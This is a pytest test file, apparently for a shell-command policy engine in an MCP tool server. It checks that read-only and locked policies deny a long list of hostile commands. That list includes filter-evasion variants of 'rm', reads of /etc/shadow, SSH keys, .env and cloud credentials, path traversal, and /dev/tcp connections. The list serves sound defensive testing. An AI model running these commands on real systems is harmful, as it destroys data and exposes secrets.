# ruff: noqa: E501 - rows of cases read one case a line
"""P2: nothing runs that no rule allows. Attacks on the shipped policies, row by row and by hand."""

import json
import os
from pathlib import Path

import pytest

from execkit_mcp.model import Verdict
from execkit_mcp.policy import Context, judge, run_examples
from execkit_mcp.runtime.policies import load_policy, shipped_names

pytestmark = pytest.mark.promise("P2")

HERE = Context(cwd="/home/dev/project", home="/home/dev", workspace="/home/dev/project")
SHIPPED = shipped_names()
LOOKING = ("read-only", "prod-readonly", "k8s-debug")
DATA = Path(os.environ.get("EXECKIT_TEST_DATA") or Path(__file__).parents[3] / "shared" / "data") / "policy"

# Rows that a read-only policy may allow, each with its reason.
HARMLESS = {
    **dict.fromkeys(
        [
            "a01125",
            "a01127",
            "a01349",
            "a01350",
            "a01351",
            "a01352",
            "a01354",
            "a01355",
            "a01358",
            "a01361",
            "a01362",
            "a01363",
            "a01364",
            "a01367",
            "a01368",
            "a01369",
            "a01371",
            "a01372",
            "a01374",
            "a01376",
            "a01437",
            "a01438",
            "a01439",
            "a01441",
            "a01442",
            "a01443",
            "a01444",
            "a01446",
            "a01447",
            "a01449",
            "a01452",
            "a01454",
            "a01455",
            "a01458",
            "a01459",
            "a01462",
            "a01465",
            "a01466",
            "a01467",
            "a01617",
            "a01638",
        ],
        "its functions, written out where they are called, print words or list /proc or /sys",
    ),
    **dict.fromkeys(
        [
            "a01258",
            "a01260",
            "a01262",
            "a01266",
            "a01268",
            "a01269",
            "a01274",
            "a01277",
            "a01278",
            "a01279",
            "a01280",
            "a01283",
            "a01285",
            "a01286",
            "a01287",
        ],
        "reads a file that everybody may read",
    ),
    **dict.fromkeys(
        [
            "a01318",
            "a01319",
            "a01320",
            "a01322",
            "a01323",
            "a01324",
            "a01328",
            "a01329",
            "a01330",
            "a01331",
            "a01332",
            "a01333",
            "a01334",
            "a01335",
            "a01340",
            "a01342",
            "a01343",
            "a01346",
            "a01347",
        ],
        "lists a public folder",
    ),
    **dict.fromkeys(
        ["a01676", "a01678", "a01683", "a01688", "a01689", "a01700", "a01701", "a01702", "a01703", "a01704"],
        "reads a file that everybody may read",
    ),
    "a02915": "jq prints a constant",
    "a02923": "bc computes; it opens no file",
    "a03054": "file reads two files of the workspace",
    "a03176": "from this folder the path is /home/etc/shadow, which is not the shadow file",
    "a03196": "a path that leaves the workspace; read-only reads everywhere but `never`",
    "a03242": "cd is granted by builtin:base; the folder is tracked",
    "a03290": "endless output: a limit stops it, not a pattern",
    "a03302": "endless output: a limit stops it, not a pattern",
}


@pytest.fixture(scope="module")
def policies():
    return {name: load_policy(name, workspace=HERE.workspace) for name in SHIPPED}


def rows(name):
    path = DATA / name
    if not path.exists():
        pytest.skip(f"the attack corpus is not on this machine: {path.name}")
    return [json.loads(line) for line in path.read_text().splitlines()]


@pytest.mark.parametrize("name", SHIPPED)
def test_each_shipped_policy_passes_its_own_tests_and_has_fifteen_of_them(policies, name):
    policy = policies[name]
    assert len(policy.document.tests) >= 15
    assert [failure.message for failure in run_examples(policy, HERE)] == []


@pytest.mark.parametrize("name", LOOKING)
def test_a_policy_for_looking_allows_no_attack_that_is_not_on_the_list(policies, name):
    policy = policies[name]
    allowed = {
        row["id"] for row in rows("attacks.jsonl") if judge(row["command"], policy, HERE).verdict is Verdict.ALLOW
    }
    assert allowed <= HARMLESS.keys(), sorted(allowed - HARMLESS.keys())


def test_locked_allows_nothing_of_either_corpus(policies):
    policy = policies["locked"]
    for row in [*rows("attacks.jsonl"), *rows("everyday.jsonl")[:1000]]:
        assert judge(row["command"], policy, HERE).verdict is Verdict.DENY, row["command"]


def test_no_text_of_either_corpus_is_a_fault(policies):
    policy = policies["workstation"]
    for row in [*rows("attacks.jsonl"), *rows("everyday.jsonl")[::5]]:
        decision = judge(row["command"], policy, HERE)
        assert not [each for each in decision.warnings if each.startswith("fault")], row["command"]


WRITES_OR_RUNS = [
    "rm x", "'r'm x", "r\\m x", "/bin/rm x", "$'\\x72m' x", "command rm x", "builtin eval 'rm x'", "env rm x", "env -i rm x",
    "timeout 5 rm x", "nice rm x", "nohup rm x", "xargs rm < f", "echo x | xargs rm", "find . -exec rm {} \\;", "find . -delete",
    "find . -fprintf out x", "find . -ok rm {} \\;", "sh -c 'rm x'", 'bash -c "rm x"', "eval rm x", "eval 'r''m x'",
    "x=rm; $x y", "for c in rm; do $c y; done", "ls; rm x", "ls && rm x", "ls || rm x", "ls | tee x", "ls & rm x", "(rm x)",
    "{ rm x; }", "echo $(rm x)", "echo `rm x`", "cat <(rm x)", "cat <<E\n$(rm x)\nE", "[[ -n $(rm x) ]]", "case $(rm x) in a) ;; esac",
    "x=$(rm y)", "LC_ALL=$(rm y) ls", "ls > $(rm x)", "ls > out", "ls >> out", "ls >| out", "ls 2> out", "ls &> out", "ls <> out",
    "sort -o x y", "sort --compress-program=sh x", "sort --compress-prog=sh x", "sed -i s/a/b/ x", "sed 's/a/b/w out' x",
    "sed -n '1e rm x' y", "awk 'BEGIN{system(\"rm x\")}'", "awk 'BEGIN{print > \"x\"}'", "awk 'BEGIN{\"rm x\" | getline}'", "uniq a b",
    "tee x", "dd of=x", "xxd -r a b", "split x", "csplit x 1", "tar xf x", "tar cf x y", "tar --to-command=sh -xf x", "unzip x",
    "git -c core.pager=sh log", "git --exec-path=/tmp log", "git log --output=x", "git grep -Osh x", "git diff --ext-diff",
    "git branch x", "git config a.b c", "git remote add a b", "git stash", "git tag x", "git -C /tmp commit", "rg --pre sh x",
    "man -P sh ls", "less -o out x", "vi x", "python3 -c pass", "perl -e 1", "node -e 1", "date -s now", "hostname x", "ip link set lo down",
    "mount /dev/sda1 /mnt", "sysctl -w a=b", "dmesg -C", "journalctl --rotate", "crontab -r", "crontab x", "systemctl stop x",
    "kill 1", "source x", ". x", "exec ls", "trap ls EXIT", "alias ls=rm", "ls() { rm x; }", "function ls { rm x; }", "set -x",
    "shopt -s x", "enable -f x y", "hash -p /tmp/x ls", "PATH=/tmp ls", "LD_PRELOAD=x ls", "PAGER=sh git log", "IFS=x", "declare -x A=b",
    "export PATH", "read PATH", "mapfile -C rm x", "printf -v PATH x", "test -v 'a[$(rm x)]'", "echo $((a[$(rm x)]))", "coproc rm x",
    "echo x > /dev/tcp/192.0.2.1/80", "exec 3<>/dev/tcp/192.0.2.1/80", "curl https://example.com", "ssh example.com rm x",
    "kubectl --context prod get pods", "kubectl get pods --cluster=prod", "kubectl get pods --user admin", "helm list --kube-context prod",
    "xmllint --noent x", "xmllint -xinclude x", "xmllint -o out x", "xmllint https://example.com/x", "cloc --git HEAD", "cloc x.zip",
    "set -k; ls PATH=/tmp", "set -ea; ls", "set -eo posix; ls", "set -e -- x; ls", "hash -tp /tmp/x ls", "tldr -u",
    "kubectl exec web -- rm x", "kubectl delete pod x", "docker run x", "sudo ls", "su -c ls", "jobs -x rm x", "time rm x", "! rm x",
    "if rm x; then ls; fi", "while rm x; do ls; done", "ls #\nrm x", "ls \\\n; rm x", "ls;\trm x", "watch rm x", "script -c 'rm x'",
    "parallel rm ::: x", "getent shadow", "ps e", "ls $(printf rm)", "ls --hyperlink=$(rm x)", "vim -c ':!rm x'", "busybox rm x",
    "ld.so /bin/rm x", "/lib64/ld-linux-x86-64.so.2 /bin/rm x", "./ls", "/tmp/ls", "../ls", "~/ls", "command -p rm x", "ls\rrm x",
    "cat /etc/shadow", "cat /proc/self/root/etc/shadow", "cat ../../../etc/shadow", "cat /etc/sh*", "grep -r x /etc", "cat < /etc/shadow",
    "cat ~/.ssh/id", "cd ~/.ssh", "cd / && cat etc/shadow", "cd /etc; cat shadow", "cat /proc/1/environ", "cat /proc/self/task/1/environ",
    "cat .env", "cat .en?", "cat {.,}env .env", "ls -R ~", "tar cf - ~/.ssh", "diff /etc/shadow x", "[ -e /etc/shadow ]", "wc -l /etc/shadow",
    "d=/etc; cat $d/shadow", 'cat "$HOME/.ssh/id"', "cat ${HOME}/.aws/credentials", "head -c 1 /dev/sda", "file -f /etc/shadow",
    "date -f /etc/shadow", "wc --files0-from=/etc/shadow", "sort --files0-from=/etc/shadow", "grep -f /etc/shadow x", "diff --from-file=/etc/shadow x",
    "cat /root/notes", "readlink -f /etc/shadow", "cat -- /etc/shadow", "cat /etc/./shadow", "cat //etc//shadow", "cat /etc/passwd/../shadow",
]  # fmt: skip


@pytest.mark.parametrize("text", WRITES_OR_RUNS)
def test_read_only_and_locked_refuse_it_and_say_why(policies, text):
    for name in ("read-only", "locked"):
        decision = judge(text, policies[name], HERE)
        assert decision.verdict is Verdict.DENY, name
        assert decision.message
        assert decision.hint


class Links:
    """A target on which the workspace holds a link to /etc, and /usr/bin/pick points to /usr/bin/rm."""

    def locate(self, name):
        return f"/usr/bin/{name}"

    def resolve(self, path):
        if path == "/home/dev/project/pick":
            return "/usr/bin/rm"
        return path.replace("/home/dev/project/link", "/etc").replace("/etc/../etc", "/etc")

    def linked_by(self, pattern):
        return ()

    def configured(self, folder):
        return ""


def test_links_on_the_target_are_seen_through(policies):
    where = Context(cwd=HERE.cwd, home=HERE.home, workspace=HERE.workspace, locator=Links())
    for text in [
        "cat link/shadow",
        "cat < link/shadow",
        "cd link && cat shadow",
        "cd link; cat shadow",
        "d=link; cat $d/shadow",
    ]:
        assert judge(text, policies["read-only"], where).verdict is Verdict.DENY, text
    assert judge("echo x > link/motd", policies["workstation"], where).verdict is Verdict.ASK
    assert judge("ls", policies["read-only"], where).canonical == "/usr/bin/ls"


EVERYDAY = [
    "ls 2>&1", "grep -E 'a|b' f", "grep 'rm -rf' f", "ls # a comment", "cat <<E\nrm -rf /\nE", "ls \\\n -la", "echo $((1 & 3))",
    'for h in a b; do echo "$h"; done', 'while read -r l; do echo "$l"; done < list.txt', "cd src && ls", "ls > /dev/null 2>&1",
    "git log --oneline | head -5", "find . -name '*.py' -exec wc -l {} + | sort -n", "x=a; cat $x", 'for f in *.log; do wc -l "$f"; done',
    "test -f a && cat a || echo none", "ps aux | grep -v grep | awk '{print $2}'", "sed -n '1,5p' f", "du -sh * | sort -h", "env | sort",
]  # fmt: skip


@pytest.mark.parametrize("text", EVERYDAY)
def test_read_only_lets_ordinary_looking_through(policies, text):
    decision = judge(text, policies["read-only"], HERE)
    assert decision.verdict is Verdict.ALLOW, decision.message
